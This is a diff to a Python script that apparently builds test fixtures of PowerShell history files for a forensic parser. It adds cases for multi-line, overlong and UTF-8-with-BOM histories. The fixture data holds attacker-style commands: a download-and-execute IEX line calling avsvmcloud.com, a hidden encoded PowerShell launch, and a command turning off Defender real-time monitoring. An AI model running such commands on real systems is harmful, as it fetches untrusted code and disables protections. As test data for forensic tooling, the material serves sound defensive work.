@@ -262,10 +262,19 @@ hist = {
             "IEX (New-Object Net.WebClient).DownloadString('http://avsvmcloud.com/a.ps1')",
             "powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AA==",
             "cd C:\\Temp"],
-    "alice": ["whoami", "Get-ChildItem C:\\Users"],
+    # a command on two lines (a backquote ends the first), one longer
+    # than the 64 KiB a command keeps
+    "alice": ["whoami", "Get-ChildItem C:\\Users", "Get-Service `",
+              "  | Where-Object Status -eq Running", "",
+              "Write-Host " + "A" * 70000, "exit"],
 }
 for user, lines in hist.items():
     p = os.path.join(d, "root", "Users", user, *PSR.split("/"))
     os.makedirs(p, exist_ok=True)
     with open(os.path.join(p, "ConsoleHost_history.txt"), "w", newline="") as f:
         f.write("".join(l + "\r\n" for l in lines))
+# another PowerShell host's history, UTF-8 with a byte order mark, LF
+p = os.path.join(d, "root", "Users", "bob", *PSR.split("/"))
+with open(os.path.join(p, "Visual Studio Code Host_history.txt"), "wb") as f:
+    f.write(b"\xef\xbb\xbfSet-MpPreference -DisableRealtimeMonitoring $true\n"
+            b"Write-Output 'caf\xc3\xa9'\n")
